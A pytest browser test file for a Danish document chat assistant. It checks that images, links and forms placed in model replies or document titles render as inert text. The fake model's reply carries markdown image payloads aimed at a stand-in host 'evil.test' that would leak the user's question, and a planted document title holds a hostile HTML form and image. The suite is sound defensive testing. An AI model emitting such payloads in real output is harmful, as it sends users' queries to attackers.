"""Issue 24 items 3 and 4 in a real Chromium: what the chat shows is inert, whatever the model
writes and whatever a document's title says. A local capture server stands for the attacker's
host; it must receive no request at all.

Fails on the code before the one renderer: the reference-style image `![x][r]` with
`[r]: http://capture/...` passed the regex sanitiser and Chromium fetched it with the buyer's
question in the URL; the offline abstention's "nearest sources" list carried a document title's
`<form>` and `<img>` into the page as live HTML."""

from __future__ import annotations

import os
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.fake_openai import FakeOpenAI, first_sentence, sources_of
from tests.web.test_app import RunningApp

CHROMIUM = os.environ.get("CHROMIUM_PATH") or shutil.which("chromium") or "/usr/bin/chromium"

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="no Chromium found (install Debian's `chromium`)"),
]


CAPTURE_ADDRESS = "127.77.0.1"
CAPTURE_HOST = "evil.test"


class Capture:
    """Records every request made to it (the attacker's server)."""

    def __init__(self):
        self.requests: list[str] = []
        capture = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def _record(self):
                capture.requests.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = do_HEAD = _record

        # Port 80 of a spare loopback address, named `evil.test` inside Chromium: the URL has no
        # digits, so the model's sentence is not refused by the claim check for a number its
        # source lacks, and no dots the sentence splitter would cut at.
        self.httpd = ThreadingHTTPServer((CAPTURE_ADDRESS, 80), Handler)
        self.url = f"http://{CAPTURE_HOST}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture(scope="module")
def capture():
    server = Capture()
    yield server
    server.close()


@pytest.fixture(scope="module")
def model(capture):
    with FakeOpenAI() as server:
        def reply(body: dict) -> str:
            sources = sources_of(body)
            sentence = first_sentence(sources.get(1, "Ordregiveren må holde markedsdialog"))
            # The claim check keeps only sentences that cite a source and drops the rest (a
            # definition line included), so the payloads ride inside the cited sentence: a
            # reference-style image and an image with nested brackets (the regex missed both).
            return (f"{sentence} ![a [b] c]({capture.url}/nested?q=markedsdialog) [1].\n\n"
                    f"![kort][r]\n\n[r]: {capture.url}/leak.png?q=markedsdialog")
        server.reply = reply
        yield server


HOSTILE_TITLE = "Barsel <form action={url}/form method=post><input name=q value=x><button>Send</button></form>"
HOSTILE_HEADING = "Orlov <img src={url}/heading.png> [klik]({url}/link)"


@pytest.fixture(scope="module")
def app(tmp_path_factory, capture, model):
    hostile = (f"---\ntitle: \"{HOSTILE_TITLE.format(url=capture.url)}\"\nlanguage: da\n---\n"
               f"# Barsel\n\n## {HOSTILE_HEADING.format(url=capture.url)}\n"
               "Barselsorlov for ansatte i kommunen aftales i overenskomsten om barsel og orlov.\n")
    running = RunningApp(tmp_path_factory.mktemp("render"), name="render", files={"barsel.md": hostile},
                         extra_env={"OPENAI_API_KEY": "sk-test", "OPENAI_BASE_URL": model.url,
                                    "ASSISTANT_CHAT_MODEL": "ok"})
    yield running
    running.stop()


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=CHROMIUM,
            args=["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync",
                  f"--host-resolver-rules=MAP {CAPTURE_HOST} {CAPTURE_ADDRESS}"])
        yield browser
        browser.close()


def ask(app, browser, question: str, done: str):
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.goto(app.url + "/")
    page.get_by_label("Dit spørgsmål").fill(question)
    page.keyboard.press("Enter")
    page.locator(done).first.wait_for(timeout=60_000)
    page.wait_for_timeout(1500)  # let any image load start
    return page


def test_images_in_the_model_reply_are_never_fetched(app, browser, capture, model):
    page = ask(app, browser, "Må vi holde markedsdialog med leverandører før udbuddet?", "#sources .source-card")
    chat = page.locator("#chat")
    page.wait_for_function("document.querySelector('#chat').innerText.includes('udbudslovens')", timeout=60_000)
    assert model.answer_requests, "the model was not asked"
    assert chat.locator("img").count() == 0
    links = [a.get_attribute("href") or "" for a in chat.locator("a").all()]
    assert not [h for h in links if capture.url in h], links
    assert "a [b] c" in chat.inner_text(), chat.inner_text()
    assert capture.requests == []
    page.close()


def test_the_capture_server_would_see_a_fetch(browser, capture):
    """The trap works: a page that does load the image is recorded (so [] above means something)."""
    page = browser.new_page()
    page.set_content(f"<img src='{capture.url}/probe.png'>")
    page.wait_for_timeout(1500)
    assert any("/probe.png" in r for r in capture.requests)
    capture.requests.clear()
    page.close()


def test_a_hostile_title_in_an_offline_abstention_is_inert(app, browser, capture):
    page = ask(app, browser, "Hvad koster en barselsorlov for en ansat?", "#sources .sources-nearest")
    chat = page.locator("#chat")
    text = chat.inner_text()
    assert "Ikke i kilderne" in text
    assert "<form action=" in text  # shown as the text it is
    assert chat.locator("form").count() == 0 and chat.locator("img").count() == 0
    assert chat.locator("input, button[type=submit]").count() == 0
    assert not [a for a in chat.locator("a").all() if capture.url in (a.get_attribute("href") or "")]
    assert capture.requests == []
    page.close()
